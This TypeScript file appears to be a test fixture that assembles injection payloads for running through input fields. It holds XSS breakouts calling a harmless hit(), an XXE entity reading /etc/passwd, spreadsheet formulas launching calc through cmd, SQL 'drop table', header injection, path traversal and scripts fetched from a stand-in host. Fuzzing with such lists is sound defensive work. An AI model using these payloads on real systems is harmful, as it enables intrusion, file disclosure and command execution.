/**
 * Texts that try to become something else: markup, script, structure of a format, a formula, a header. Each kind of
 * markup is tried after each way of breaking out of where it stands. What runs calls `hit()`; what becomes an element
 * or attribute without running carries the name x9.
 */

/** Ways out of an element, an attribute, a comment, a script, a raw-text element, or past a filter that reads twice. */
const WAYS_OUT = [
  "",
  '">',
  "'>",
  "-->",
  "]]>",
  "</title>",
  "</textarea>",
  "</script>",
  "</style>",
  "</template></noscript>",
  "\\u003c/script\\u003e",
  "&quot;&gt;",
];

const MARKUP = [
  "<script>hit()</script>",
  "<ScRiPt/x9>hit()</sCrIpT >",
  "<script src=//x9.example/hit.js></script>",
  "<img src=x onerror=hit()>",
  '<img src="x" x9 onerror="hit()" />',
  "<img/src='x'/onerror='hit()'>",
  "<svg onload=hit()>",
  "<svg><script>hit()</script></svg>",
  "<svg><animate onbegin=hit() attributeName=x dur=1s>",
  "<svg><a xlink:href='javascript:hit()'><text x9 y=20>x</text></a></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>parent.hit()</script>'></iframe></foreignObject></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=hit()&gt;'>",
  "<math href='javascript:hit()' x9>x</math>",
  "<iframe src='javascript:parent.hit()'></iframe>",
  "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
  "<object data='javascript:hit()'></object>",
  "<embed src='javascript:hit()'>",
  "<a href='javascript:hit()' x9>x</a>",
  "<a href=' java\tscript:hit()' x9>x</a>",
  "<form action='javascript:hit()'><input type=submit x9></form>",
  "<button formaction=javascript:hit() x9>x</button>",
  "<details open ontoggle=hit()>x</details>",
  "<input autofocus onfocus=hit()>",
  "<video><source onerror=hit()></video>",
  "<audio src=x onerror=hit()>",
  "<body onload=hit()>",
  "<marquee onstart=hit()>x</marquee>",
  "<x9 onclick=hit() tabindex=1 id=x autofocus>x</x9>",
  "<style>@import '//x9.example/hit.css'; *{background:url(//x9.example/hit)}</style>",
  "<link rel=stylesheet href=//x9.example/hit.css>",
  "<meta http-equiv=refresh content='0;url=//x9.example/'>",
  "<base href=//x9.example/>",
  "<template><img src=x onerror=hit()></template>",
  "<template shadowrootmode=open><img src=x onerror=hit()></template>",
  "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
  "<textarea><img src=x onerror=hit()></textarea>",
  "<xmp><img src=x onerror=hit()></xmp>",
  "<plaintext x9>",
  "<div popover id=e1 x9>x</div>",
  "<!--><img src=x onerror=hit()>-->",
  "<![CDATA[<img src=x onerror=hit()>]]>",
  "<?xml-stylesheet href='//x9.example/hit.xsl'?>",
];

/** Texts for attributes, addresses, JSON, XML, feeds, headers, templates, spreadsheets and readers of text. */
const OTHERS = [
  '" onmouseover="hit()" x9="',
  "' onfocus='hit()' autofocus x9='",
  "` onload=`hit()` x9=`",
  "javascript:hit()",
  "JaVaScRiPt&colon;hit()",
  "data:text/html,<script>hit()</script>",
  "vbscript:hit()",
  "//x9.example/%0d%0aSet-Cookie:x9=1",
  '"},{"@type":"Person","name":"x9',
  '"}]}</script><script>hit()</script>',
  '\\"},"x9":{"a":"',
  "\\",
  "\\u0022,\\u0022x9\\u0022:1",
  '{"__proto__":{"x9":true}}',
  "constructor.prototype.x9",
  "<!DOCTYPE x [<!ENTITY x9 SYSTEM 'file:///etc/passwd'>]>&x9;",
  "&x9; &#0; &#x9; &lt;x9&gt; &amp;amp;",
  "&lt;img src=x onerror=hit()&gt;",
  "&amp;lt;script&amp;gt;hit()",
  "%3Cscript%3Ehit()%3C/script%3E",
  "+ADw-script+AD4-hit()+ADw-/script+AD4-",
  "]]></content></entry><entry><id>x9</id>",
  "</loc></url><url><loc>http://x9.example/",
  "{{constructor.constructor('hit()')()}}",
  "$\u007bhit()} #{hit()} <%= hit() %>",
  "[x9](javascript:hit()) ![x](x onerror=hit())",
  "x\u2028hit()\u2029x",
  "\ufefftext after a mark of order",
  "\u202egnp.x9\u202c turned round",
  "\u2066isolated\u2069 and \u200fright to left\u200e",
  "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd \u4f60\u597d \ud83d\udc69\u200d\ud83d\ude92",
  `z${"\u0300\u0316\u0334\u0489".repeat(30)}algo`,
  "x9".repeat(150),
  "\u00ad\u200b\u2060hidden\u200d",
  "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
  "\u212a\u017f dotless \u0131 and ss \u00df",
  "' or 1=1; drop table source; --",
  "../../../../etc/passwd\\..\\..",
  "%s%s%n%d {0} %x9",
  "Header\r\nX-X9: injected\r\n\r\nbody",
  "<x9:tag xmlns:x9='urn:x9'>x</x9:tag>",
  "/*x9*/ hit() //",
];

/** What a spreadsheet would take for a formula or a command, at the beginning of a cell. */
const FORMULAS = [
  '=HYPERLINK("http://x9.example","x")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\uff1d1+1",
  "\uff0b1+1",
  "\uff0d1+1",
  "\uff20SUM(1)",
  '"=1+1"',
];

export const PAYLOADS: string[] = [
  ...WAYS_OUT.flatMap((out) => MARKUP.map((markup) => out + markup)),
  ...OTHERS,
  ...FORMULAS,
];

/**
 * The payloads in groups, so that each can go through each field. Every group begins with a formula: only the
 * beginning of a cell makes one.
 */
export function payloadGroups(count: number): string[][] {
  const groups = Array.from({ length: count }, (_, at) => [FORMULAS[at % FORMULAS.length] ?? "="]);
  const rest = PAYLOADS.slice(0, -FORMULAS.length);
  for (const [at, payload] of rest.entries()) groups[at % count]?.push(payload);
  return groups;
}
